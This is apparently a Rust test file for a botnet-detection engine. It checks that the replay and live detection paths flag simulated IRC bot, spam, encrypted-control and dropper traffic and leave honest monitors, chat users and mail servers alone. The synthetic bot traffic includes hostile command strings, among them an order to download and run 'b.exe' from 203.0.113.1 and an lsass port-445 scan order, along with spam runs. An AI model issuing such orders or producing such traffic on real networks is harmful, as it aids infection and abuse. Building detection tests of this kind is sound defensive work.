//! Replay and the live gate judge the same traffic alike, and honest hosts are left alone.
//!
//! Each story is played twice in several variants: as a capture, and as the reports of the gate
//! about the same programs. Some things only one of the two can know. Live, a registered program
//! is known, so its mail is permitted and nothing else of it is looked at; refused mail counts at
//! once. A capture shows connections that came to nothing and mail that others deliver.

mod common;

use std::collections::BTreeSet;
use std::io::Cursor;
use std::net::IpAddr;

use common::CLIENT;
use common::stories::{Act, Place, Story};
use common::talks::timed_pcap;
use engine::*;
use replay::{FlowRecord, Hosts, Input, Sink};

const VARIANTS: u64 = 6;

#[derive(Default)]
struct Weigher(Hosts);

impl Sink for Weigher {
    fn flow(&mut self, _flow: FlowRecord) {}

    fn observe(&mut self, host: IpAddr, observation: &Observation<'_>, time_ns: u64) {
        self.0.observe(host, observation, Timestamp(time_ns));
    }
}

/// The signs by which replay finds the host; none when it finds nothing.
fn replayed(story: &Story) -> Option<BTreeSet<String>> {
    let input = Input::new(Cursor::new(timed_pcap(&story.packets())));
    let mut weigher = Weigher::default();
    replay::replay_into(input, &replay::Settings::default(), &mut weigher).unwrap();
    let found = weigher.0.findings();
    let host = Subject::Host(CLIENT.0.into());
    let others = found.iter().filter(|one| one.subject != host).count();
    assert_eq!(others, 0, "{}: {found:#?}", story.name);
    let own = found.into_iter().find(|one| one.subject == host)?;
    Some(shared(&own.evidence))
}

/// The signs by which the live engine finds the program; none when it calls it no bot.
fn lived(story: &Story) -> Option<BTreeSet<String>> {
    let mut engine = Engine::new(Settings::default());
    let mut found = Vec::new();
    let mut last = Timestamp(0);
    for (at, event) in story.events() {
        last = at;
        found.extend(engine.handle(event, at));
    }
    found.extend(engine.tick(last.plus_ns(120_000_000_000)));
    let findings = found.into_iter().filter_map(|action| match action {
        Action::Append(Entry::Finding(finding)) => Some(finding),
        _ => None,
    });
    let bots = findings.filter(|finding| finding.finding == FindingKind::BotSuspected);
    let evidence: Vec<Evidence> = bots.flat_map(|finding| finding.evidence).collect();
    (!evidence.is_empty()).then(|| shared(&evidence))
}

/// The signs that both can know, by their names.
fn shared(evidence: &[Evidence]) -> BTreeSet<String> {
    let both = [
        Sign::SpeaksIrc,
        Sign::MachineNick,
        Sign::KeyedChannel,
        Sign::BotCommand,
        Sign::BotReply,
        Sign::CommandReaction,
        Sign::NumberedRequests,
        Sign::MxLookups,
    ];
    let known = evidence.iter().filter(|one| both.contains(&one.what));
    known.map(|one| format!("{:?}", one.what)).collect()
}

fn server(number: u32, port: u16) -> Place {
    ([198, 51, (number >> 8) as u8, number as u8], port)
}

/// A session of IRC: login, a channel with a key, pings, and what else is said.
fn irc(first: &str, nick: &str, lasts: f64, said: &[(f64, bool, String)]) -> Act {
    let mut lines = vec![
        (
            1.0,
            true,
            format!("{first}NICK {nick}\r\nUSER a 0 * :a\r\n"),
        ),
        (1.2, false, format!(":irc.example 001 {nick} :Welcome\r\n")),
        (1.4, true, "JOIN #x key\r\n".to_owned()),
        (1.6, false, format!(":{nick}!a@h.example JOIN :#x\r\n")),
    ];
    let mut at = 91.0;
    while at < lasts {
        lines.push((at, false, "PING :irc.example\r\n".to_owned()));
        lines.push((at + 0.1, true, "PONG :irc.example\r\n".to_owned()));
        at += 90.0;
    }
    lines.extend(said.iter().cloned());
    lines.sort_by(|a, b| a.0.total_cmp(&b.0));
    Act::Talk {
        server: server(7, 8080),
        lines,
    }
}

/// Said by somebody else in the channel.
fn heard(at: f64, words: &str) -> (f64, bool, String) {
    (at, false, format!(":m!u@h.example PRIVMSG #x :{words}\r\n"))
}

/// A file that is fetched without saying what is accepted.
fn fetch(at: f64, site: u32, target: &str) -> Act {
    let request =
        format!("GET {target} HTTP/1.1\r\nHost: site{site}.example\r\nUser-Agent: check\r\n\r\n");
    let answer = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".to_owned();
    Act::Talk {
        server: server(80 + site, 80),
        lines: vec![(at, true, request), (at + 0.05, false, answer)],
    }
}

/// A run of spam: exchangers are looked up, and their servers contacted.
fn spam(story: &mut Story, at: f64, first: u32) {
    for number in first..first + 12 {
        let at = at + f64::from(number - first) * 0.4;
        let name = format!("victim{number}.example");
        story.unknown(Act::Lookup { at, name, kind: 15 });
        let server = server(1024 + number, 25);
        story.unknown(Act::Mail {
            at: at + 0.1,
            server,
        });
    }
}

fn orders_and_answers(seed: u64, first: &'static str) -> Story {
    let mut story = Story::new("orders and answers", true, seed);
    let at = 60.0 + 400.0 * story.chance();
    let orders = [
        (
            ".advscan lsass 100 5 0 -r",
            "[SCAN]: Random Port Scan started on 10.x.x.x:445",
        ),
        (
            ".http.update http://203.0.113.1/b.exe c:\\b.exe",
            "[UPDATE]: Downloading update from: http://203.0.113.1/b.exe",
        ),
    ];
    let (order, answer) = orders[seed as usize % 2];
    let answer = (at + 0.5, true, format!("PRIVMSG #x :{answer}\r\n"));
    let nick = format!("[DEU|XP|{}]", 10_000 + seed * 7_919);
    story.unknown(irc(first, &nick, 900.0, &[heard(at, order), answer]));
    story
}

fn spam_on_order(seed: u64) -> Story {
    let mut story = Story::new("spam on order", true, seed);
    let at = 100.0 + 600.0 * story.chance();
    let nick = format!("USA|{}", 100_000 + seed * 5_431);
    let order = heard(at, ".spam.start http://203.0.113.1/list.txt");
    story.unknown(irc("", &nick, 1200.0, &[order]));
    spam(&mut story, at + 1.0 + story_delay(seed), 0);
    story
}

fn story_delay(seed: u64) -> f64 {
    (seed % 4) as f64
}

/// Orders come in encrypted at times of the master's, and each is followed by a run of spam.
fn encrypted_control(seed: u64) -> Story {
    let mut story = Story::new("encrypted control", true, seed);
    let mut lines = vec![
        (1.0, true, "\x01\x02hello\x03\x04".to_owned()),
        (1.1, false, "\x05\x06hello\x07\x08".to_owned()),
    ];
    let mut at = 200.0;
    for run in 0..5 {
        lines.push((at, false, format!("\x01\x02\x03order{run}\x04")));
        spam(&mut story, at + 1.0 + story_delay(seed), run * 20);
        at += 300.0 + 500.0 * story.chance();
    }
    story.unknown(Act::Talk {
        server: server(9, 48_101),
        lines,
    });
    story
}

/// A dropper asks its servers in turn, with another number each time.
fn dropper(seed: u64) -> Story {
    let mut story = Story::new("dropper", true, seed);
    for round in 0..10u32 {
        for site in 0..4 {
            let at = 15.0 * f64::from(round) + f64::from(site) + story.chance() / 4.0;
            let name = (story.chance() * 900_000.0) as u32 + 97_000;
            let value = (story.chance() * 900_000.0) as u32 + 97_000;
            let target = format!("/logo.gif?{name:x}={value}");
            story.unknown(fetch(at, site, &target));
        }
    }
    story
}

/// A person in a keyed channel, among words that bots obey, beside programs at work.
fn person(name: &'static str, seed: u64) -> Story {
    let mut story = Story::new(name, false, seed);
    let mut said = Vec::new();
    let mut at = 30.0;
    for number in 0..20 {
        at += 5.0 + 120.0 * story.chance();
        let words = match number % 5 {
            0 => "!help",
            1 => "did you see .download http://a.example/x in the log?",
            2 => "!seen bob",
            3 => "lunch?",
            _ => ".status",
        };
        said.push(heard(at, words));
        said.push((at + 3.0, true, "PRIVMSG #x :hm\r\n".to_owned()));
    }
    story.unknown(irc("", "alice", 3000.0, &said));
    story
}

fn monitor(story: &mut Story, sites: u32, period: f64, rounds: u32, clock: bool) {
    for round in 0..rounds {
        for site in 0..sites {
            let at = 5.0 + period * f64::from(round) + 0.3 * f64::from(site);
            let at = at + story.chance() / 10.0;
            let target = if clock {
                format!("/health?_={}", 1_795_000_000 + at as u64)
            } else {
                "/health".to_owned()
            };
            story.unknown(fetch(at, site, &target));
        }
    }
}

fn honest(seed: u64) -> Vec<Story> {
    let variant = seed as u32;
    let mut monitored = Story::new("a monitor", false, seed);
    monitor(&mut monitored, 2 + variant, 60.0, 40, false);
    let mut past_caches = Story::new("a monitor past caches", false, seed);
    monitor(&mut past_caches, 3, 30.0 + 10.0 * seed as f64, 40, true);
    let mut beside = person("a person who chats beside a monitor", seed);
    monitor(&mut beside, 3, 60.0, 40, seed.is_multiple_of(2));
    let mut dead = person("a person who chats beside dead targets", seed);
    for round in 0..30 {
        for target in 0..100 + 10 * variant {
            let at = 10.0 + 60.0 * f64::from(round) + f64::from(target) / 10.0;
            dead.unknown(Act::Dead {
                at,
                server: ([10, 0, (target >> 7) as u8, target as u8], 9100),
            });
        }
    }
    let mut mails = person("a person who chats and mails", seed);
    for number in 0..8 {
        let at = 100.0 + 2000.0 * mails.chance();
        let server = server(1024 + number % 2, 587);
        mails.registered(Act::Mail { at, server });
    }
    let mut mail_server = person("a mail server whose administrator chats", seed);
    for number in 0..120 {
        let at = 2900.0 * mail_server.chance();
        mail_server.registered(Act::Delivered { at });
        let name = format!("to{number}.example");
        mail_server.registered(Act::Lookup { at, name, kind: 15 });
        let server = server(1024 + number % (20 + 10 * variant), 25);
        mail_server.registered(Act::Mail {
            at: at + 0.3,
            server,
        });
    }
    vec![monitored, past_caches, beside, dead, mails, mail_server]
}

fn infected(seed: u64) -> Vec<Story> {
    vec![
        orders_and_answers(seed, ""),
        orders_and_answers(seed, "GET / HTTP/1.0\r\n\r\n"),
        spam_on_order(seed),
        encrypted_control(seed),
        dropper(seed),
    ]
}

#[test]
fn replay_and_live_judge_the_same_traffic_alike() {
    let mut wrong = Vec::new();
    let mut counted = [0; 2];
    for seed in 1..=VARIANTS {
        for story in infected(seed).into_iter().chain(honest(seed)) {
            counted[usize::from(story.infected)] += 1;
            let (replayed, lived) = (replayed(&story), lived(&story));
            let right = |found: &Option<_>| Option::is_some(found) == story.infected;
            if !right(&replayed) || !right(&lived) || replayed != lived {
                wrong.push(format!(
                    "{} {seed}: replay {replayed:?}, live {lived:?}",
                    story.name
                ));
            }
        }
    }
    assert_eq!(counted, [36, 30]);
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
